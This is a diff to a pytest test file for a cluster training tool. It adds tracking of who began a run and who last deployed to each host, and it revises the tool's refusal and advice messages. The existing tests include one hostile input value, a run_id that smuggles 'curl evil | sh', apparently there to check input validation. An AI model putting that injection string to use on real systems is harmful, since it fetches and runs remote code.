@@ -12,6 +12,7 @@ from psfleet.run.start import (
     RefusedError,
     decide,
     deploy_problems,
+    deployed_by_others,
     going_on,
     stopped_tasks,
     unstopped,
@@ -46,11 +47,14 @@ def found(
     environment: str = "1" * 12,
     programs: Sequence[str] = (),
     holds_run: bool = False,
+    begun: str = "",
+    deployed_by: str = "",
     checks: Sequence[Mapping[str, str]] = (),
 ) -> dict[str, Any]:
     task = {"name": name, "job": name[:-1], "index": int(name[-1])}
-    task |= {"alive": alive, "run_id": run_id, "phase": phase}
+    task |= {"alive": alive, "run_id": run_id, "begun": begun, "phase": phase}
     return {
+        "deployed_by": deployed_by,
         "deployed": PLAN if deployed is None else deployed,
         "release": "0" * 12,
         "environment": environment,
@@ -64,6 +68,7 @@ def found(
     }
 
 
+ANA, BOB = "ana@desk, 2026-11-25 09:12 UTC", "bob@ws, 2026-11-25 09:13 UTC"
 CHIEF = {"name": "chief0", "job": "chief", "index": 0, "host": "n3", "role": "client"}
 IDLE = {"n1": found("ps0"), "n2": found("worker0")}
 SERVES = found("ps0", alive=True, run_id="r1")
@@ -148,13 +153,33 @@ MOVED = {**PLAN, "hash": "bbb", "tasks": [PLAN["tasks"][0], {**PLAN["tasks"][1],
             {"n2": found("worker0", holds_run=True)},
             Folder(),
             "run_id r1 is new here, and n2 already has files of a run of that name (runs/r1 in the state "
-            "directory); choose another, or remove them there",
+            "directory): it goes on from where it was begun; choose another, or remove them there",
+        ),
+        (
+            {"n2": found("worker0", run_id="r1", holds_run=True, begun=ANA)},
+            Folder(),
+            f"run_id r1 is new here, and n2 already has files of a run of that name, begun by {ANA} (runs/r1 "
+            "in the state directory): it goes on from where it was begun; choose another, or remove them "
+            "there",
         ),
         (
             {"n1": found("ps0", alive=True, run_id="r0"), "n3": found("server7", alive=True, run_id="r0")},
             Folder(),
             "run r0 is going on (ps0 on n1, server7 on n3): watch it with ansible-playbook train.yml "
-            "-e run_id=r0, or end it with ansible-playbook stop.yml",
+            "-e run_id=r0, or wait for its end. Where it is yours, or nobody needs it, end it with "
+            "ansible-playbook stop.yml -e run_id=r0",
+        ),
+        # A host may say that somebody else began it: all that were said are shown, none twice.
+        (
+            {
+                "n1": found("ps0", alive=True, run_id="r0", begun=ANA),
+                "n2": found("worker0", alive=True, run_id="r0", begun=ANA),
+                "n3": found("server7", alive=True, run_id="r0", begun=BOB),
+            },
+            Folder(),
+            f"run r0 is going on (ps0 on n1, worker0 on n2, server7 on n3), begun by {ANA} or {BOB}: watch "
+            "it with ansible-playbook train.yml -e run_id=r0, or wait for its end. Where it is yours, or "
+            "nobody needs it, end it with ansible-playbook stop.yml -e run_id=r0",
         ),
         (
             {"n1": found("ps0", alive=True, run_id="x; curl evil | sh")},
@@ -175,10 +200,10 @@ MOVED = {**PLAN, "hash": "bbb", "tasks": [PLAN["tasks"][0], {**PLAN["tasks"][1],
             "n2 10.0.0.2:2222 GPUs [] in the inventory); run deploy.yml",
         ),
         (
-            {"n1": found("ps0", deployed={**PLAN, "hash": "ccc"})},
+            {"n1": found("ps0", deployed={**PLAN, "hash": "ccc"}, deployed_by="bob@ws")},
             Folder(),
-            "the plan deployed on n1 is not today's inventory (hash ccc deployed, aaa in the inventory); "
-            "run deploy.yml",
+            "the plan deployed on n1, last by bob@ws, is not today's inventory (hash ccc deployed, aaa in "
+            "the inventory); run deploy.yml",
         ),
         (
             {"n1": found("ps0", tensorflow=OLD)},
@@ -250,6 +275,9 @@ def test_another_run_than_the_one_named_is_not_stopped() -> None:
     hosts = {"n1": found("ps0", alive=True, run_id="r1")}
     assert going_on(hosts, "r1") == "r1"
     assert going_on({"n1": found("ps0", run_id="r1")}, "r1") == ""
+    hosts = {"n1": found("ps0", alive=True, run_id="r1", begun=ANA)}
+    with pytest.raises(RefusedError, match=f"that is going on is r1, begun by {re.escape(ANA)}; nothing was"):
+        going_on(hosts, "r0")
     for other in ("r0", "r", "r11"):
         with pytest.raises(RefusedError, match=f"run_id is {other}, but the run that is going on is r1"):
             going_on(hosts, other)
@@ -263,7 +291,7 @@ def test_a_host_cannot_name_a_path(run_id: str) -> None:
 
 def test_two_runs_are_not_stopped_as_one() -> None:
     hosts = {"n1": found("ps0", alive=True, run_id="r1"), "n2": found("worker0", alive=True, run_id="r2")}
-    with pytest.raises(RefusedError, match="r1, r2"):
+    with pytest.raises(RefusedError, match="r1; r2"):
         going_on(hosts)
 
 
@@ -294,9 +322,10 @@ def test_advice_names_the_inventory_unless_it_is_the_default(
 
 
 WATCH = (
-    "run r1 is going on (worker0 on n2): watch it with ansible-playbook train.yml -e run_id=r1, or end it"
-    " with ansible-playbook stop.yml"
+    "run r1 is going on (worker0 on n2): watch it with ansible-playbook train.yml -e run_id=r1, or wait for "
+    "its end{}. Where it is yours, or nobody needs it, end it with ansible-playbook stop.yml -e run_id=r1"
 )
+BESIDE = "; -e trainer_deploy_during_run=true deploys beside it, which keeps what it was started with"
 
 
 @pytest.mark.parametrize(
@@ -306,7 +335,7 @@ WATCH = (
         (
             {"n2": TRAINS},
             False,
-            [WATCH, "-e trainer_deploy_during_run=true deploys beside it; it keeps what it was started with"],
+            [WATCH.format(BESIDE)],
         ),
         ({"n2": TRAINS}, True, []),
         # A host that was left behind, and has no task of the run.
@@ -316,7 +345,7 @@ WATCH = (
                 {"n2": found("worker0", alive=True, run_id="r1", deployed=MOVED)},
                 told,
                 [
-                    WATCH,
+                    WATCH.format(""),
                     "its tasks would be ended by another plan: worker0: n2 10.0.0.2:2999 GPUs [] deployed,"
                     " n2 10.0.0.2:2222 GPUs [] in the inventory",
                 ],
@@ -329,6 +358,16 @@ def test_what_a_deployment_would_disturb(
     hosts: dict[str, dict[str, Any]], told: bool, said: list[str]
 ) -> None:
     assert deploy_problems({**IDLE, **hosts}, PLAN, told=told) == said
+
+
+def test_who_else_deployed_last_is_said() -> None:
+    hosts = {
+        "n1": found("ps0", deployed_by="bob@ws"),
+        "n2": found("worker0", deployed_by="ana@desk"),
+        "n3": found("worker1"),
+        "n4": found("worker2", deployed_by="bob@ws"),
+    }
+    assert deployed_by_others(hosts, "ana@desk") == ["n1, n4: deployed last by bob@ws"]
 
 
 def test_a_deployment_that_was_interrupted_is_none() -> None:
